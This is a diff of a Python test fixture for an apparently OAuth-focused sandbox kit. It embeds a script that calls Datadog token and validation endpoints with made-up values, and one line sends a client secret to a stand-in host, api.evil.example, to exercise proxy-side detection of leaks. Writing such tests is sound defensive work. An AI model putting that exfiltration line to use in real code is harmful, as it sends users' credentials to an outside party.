@@ -33,11 +33,12 @@ if TYPE_CHECKING:
 KIT = [sys.executable, "-m", "ddoauth_kit", "sandbox"]
 CALLS = """
 import httpx, sys
+client = httpx.Client()
 form = {"grant_type": "authorization_code", "code": "made-up", "client_id": "made-up"}
-told = httpx.post("https://api.datadoghq.com/api/v2/oauth2/token", data=form)
-valid = httpx.get("https://api.datadoghq.eu/api/v1/validate", headers={"DD-API-KEY": "made-up"})
+told = client.post("https://api.datadoghq.com/api/v2/oauth2/token", data=form)
+valid = client.get("https://api.datadoghq.eu/api/v1/validate", headers={"DD-API-KEY": "made-up"})
 form = {"client_secret": sys.argv[1], "code": "made-up"}
-leak = httpx.post("https://api.evil.example/token?hint=" + sys.argv[1], data=form)
+leak = client.post("https://api.evil.example/token?hint=" + sys.argv[1], data=form)
 print(told.status_code, valid.status_code, leak.status_code)
 """
 # What a client does wrong, each in a connection of its own, at the proxy that it finds set.
